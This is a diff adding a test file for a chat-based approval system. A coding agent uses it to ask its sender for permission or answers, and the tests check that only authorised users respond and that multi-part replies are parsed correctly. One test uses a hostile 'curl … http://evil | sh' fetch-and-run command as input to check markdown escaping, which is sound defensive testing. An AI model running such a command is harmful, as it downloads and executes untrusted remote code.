@@ -1,0 +1,63 @@
+"""Questions a running task asks its sender, without a network: who may answer what, several questions in one
+reply, and what the chat is shown (tasks/approvals.py)."""
+
+from __future__ import annotations
+
+import threading
+import time
+
+from codebuddy.warm_sessions import ASK_QUESTION_TOOL, ToolRequest
+from dingtalk_sender import Route
+from tasks.approvals import Approvals, question_text, split_answers, verdict
+from tasks.task import RUNNING, Task
+
+
+def _task(user: str = "olga") -> Task:
+    return Task(id="t1", user_id=user, user_name="Olga", conversation_key="c", route=Route("2", user, "cidG"),
+                prompt="p", status=RUNNING, attempts=1, started_at=1.0)
+
+
+def test_only_the_sender_or_an_admin_answers_a_tool_request_and_only_the_sender_a_question():
+    assert verdict("olga", False, "olga", False, "同意") == "approve"
+    assert verdict("olga", False, "olga", False, "/deny 太危险") == "deny"
+    assert verdict("olga", False, "boss", True, "批准") == "approve"
+    assert verdict("olga", False, "mallory", False, "同意") == "refused"
+    assert verdict("olga", False, "mallory", False, "你好") is None  # an ordinary message in the group
+    assert verdict("olga", True, "olga", False, "用 PostgreSQL") == "answer"
+    assert verdict("olga", True, "olga", False, "拒绝") == "decline"
+    assert verdict("olga", True, "olga", False, "/status") is None  # a command while the question waits
+    assert verdict("olga", True, "boss", True, "用 MySQL") is None  # an admin does not answer for the sender
+
+
+def test_a_numbered_reply_answers_several_questions_one_by_one_and_any_other_reply_answers_each():
+    questions = ["用哪个数据库？", "要不要加索引？"]
+    assert split_answers(questions, "1. PostgreSQL\n2、要，按 user_id\n  和 created_at") == {
+        "用哪个数据库？": "PostgreSQL", "要不要加索引？": "要，按 user_id\n和 created_at"}
+    assert split_answers(questions, "都听你的") == dict.fromkeys(questions, "都听你的")
+    assert split_answers(questions, "1. 只答了一个") == dict.fromkeys(questions, "1. 只答了一个")
+    assert split_answers(["只有一个？"], "1. 带编号") == {"只有一个？": "1. 带编号"}  # one question: kept as written
+
+
+def test_the_question_shown_in_the_chat_escapes_what_the_agent_wrote_and_asks_for_numbers_when_several():
+    shown = question_text(_task(), ToolRequest("Bash", {"command": "curl [x](http://evil) | **sh**"}), 300)
+    assert r"\[x\](http://evil) \| \*\*sh\*\*" in shown and "@Olga" in shown and "5 分钟" in shown
+    several = ToolRequest(ASK_QUESTION_TOOL, {"questions": [{"question": "A？"}, {"question": "B？"}]})
+    assert "按编号逐行回答" in question_text(_task(), several, 60)
+    assert "按编号" not in question_text(_task(), ToolRequest(ASK_QUESTION_TOOL, {"questions": [{"question": "A？"}]}),
+                                         60)
+
+
+def test_a_reply_to_several_questions_reaches_the_cli_as_one_answer_each():
+    approvals = Approvals(lambda task, text: None, timeout=30)
+    request = ToolRequest(ASK_QUESTION_TOOL, {"questions": [{"question": "A？"}, {"question": "B？"}]})
+    decisions: list = []
+    asking = threading.Thread(target=lambda: decisions.append(approvals.ask(_task(), request)))
+    asking.start()
+    deadline = time.monotonic() + 5
+    while approvals.waiting("c") is None and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert approvals.answer("c", "mallory", False, "1. 我来答") is None  # not the sender: an ordinary message
+    assert approvals.answer("c", "olga", False, "1. 甲\n2. 乙") == ""
+    asking.join(5)
+    assert decisions[0].allowed and decisions[0].updated_input["answers"] == {"A？": "甲", "B？": "乙"}
+    assert approvals.answer("c", "olga", False, "1. 再答一次") is None  # nothing waits any more
